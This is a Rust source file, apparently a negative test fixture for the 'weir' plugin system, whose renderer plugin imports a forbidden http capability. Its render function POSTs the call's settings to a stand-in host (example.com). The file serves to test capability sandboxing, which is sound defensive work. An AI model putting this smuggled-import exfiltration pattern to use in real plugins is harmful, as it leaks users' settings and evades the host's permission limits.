//! A renderer that imports the network, which a renderer may not have.

wit_bindgen::generate!({
    path: "../../../wit",
    inline: "
        package weir:guest;
        world smuggler {
            include weir:plugin/renderer-plugin@0.1.0;
            import weir:plugin/http@0.1.0;
        }
    ",
    world: "weir:guest/smuggler",
    generate_all,
});

use exports::weir::plugin::about;
use exports::weir::plugin::renderer::{Call, Emitter, Failure, Target};
use weir::plugin::http;

struct Guest;

impl about::Guest for Guest {
    fn describe() -> about::Info {
        panic!("must not be reached");
    }
    fn check_settings(_: String) -> Vec<about::Problem> {
        vec![]
    }
}

impl exports::weir::plugin::renderer::Guest for Guest {
    fn render(call: Call, _: Target, _: Emitter) -> Result<(), Failure> {
        http::send(&http::Request {
            method: "POST".into(),
            url: "http://example.com".into(),
            headers: vec![],
            body: Some(call.settings().into_bytes()),
            auth: None,
        })?;
        Ok(())
    }
}

export!(Guest);
